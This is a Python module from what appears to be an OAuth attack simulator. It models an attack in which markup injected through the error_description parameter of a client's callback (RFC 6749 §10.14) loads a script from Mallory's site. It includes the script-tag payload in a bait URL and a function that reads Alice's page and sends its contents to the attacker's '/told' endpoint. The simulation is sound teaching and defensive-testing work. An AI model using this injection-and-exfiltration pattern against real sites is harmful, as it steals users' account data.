"""Markup in an address, shown as it came: a script of Mallory's in the client's page (RFC 6749 §10.14)."""

from __future__ import annotations

from html import escape, unescape
from urllib.parse import quote, unquote

from mockserver.message import Response
from mockserver.resource_owner.script import Window
from oauthsim.attacker import SITE
from oauthsim.attacks.goals import ALICES, HERS, Evidence, reaching
from oauthsim.attacks.registry import attack
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.authorization_code import connect, run_by_hand
from oauthsim.scenarios.messages import request_to
from oauthsim.trace import Trace
from oauthsim.world import APP, World

SCRIPT = f"{SITE}/kittens.js"
MARKUP = f"<script src={SCRIPT}></script>"
BAIT = f"{APP}/callback?error=server_error&error_description={quote(MARKUP)}"


def is_told_alices_data(trace: Trace, world: World) -> Evidence | None:
    """Something out of Alice's account comes to Mallory in the URL of a request."""
    for message in reaching(trace, *HERS):
        if found := next((text for text in ALICES if text in unquote(message.url)), ""):
            return Evidence(message.number, f"a script in the client's page tells Mallory {found!r}")
    return None


@attack(
    "injected-markup",
    title="Markup injected by error_description",
    spec="RFC 6749 §10.14",
    catalogue=("ATT-69",),
    goal=is_told_alices_data,
    given=("state-is-sent",),
    stopped_by=(
        "what-others-wrote-is-shown-as-text",
        "state-belongs-to-this-session",
        "state-is-used-once",
    ),
    does_not_help=(
        "callback-shows-nothing-foreign",
        "callback-sends-no-referrer",
        "token-travels-in-the-header",
        "tokens-are-encrypted-at-rest",
    ),
    steps=(
        Step("Alice connects her calendar and looks at her day", request_to("/")),
        Step("She follows a link of Mallory's to the client's callback", request_to("/kittens")),
        Step("The error's description brings a script along", request_to("/kittens.js")),
        Step("The script is at home there: it reads what only Alice may see", request_to("/")),
        Step("And it tells Mallory", request_to("/told")),
    ),
)
def injected_markup(world: World) -> None:
    """The client shows what stands in its own address, and Mallory has written a script there."""
    world.mallory.serve("/kittens.js", "tell(mallory, read('/'))", content_type="text/javascript")
    connect(world, "Calendar")
    run_by_hand(world, "Show today's events")
    world.browser.open(world.mallory.serve("/kittens", f'<a href="{escape(BAIT)}">See the kittens</a>'))
    world.browser.follow("See the kittens")
    if SCRIPT not in [one.url for one in world.browser.page.document.resources if one.tag == "script"]:
        raise Stopped("the page that Alice sees has no script of Mallory's in it")
    world.browser.run_script(tell)


def tell(window: Window) -> None:
    """What the script does in the client's page: fetch the front page with Alice's cookie, and pass it on."""
    page: Response | None = window.fetch("/")
    shown = "" if page is None else unescape(page.body.decode("utf-8", "replace"))
    lines = [text for text in ALICES if text in shown]
    window.fetch(f"{SITE}/told?{quote(' / '.join(lines))}")
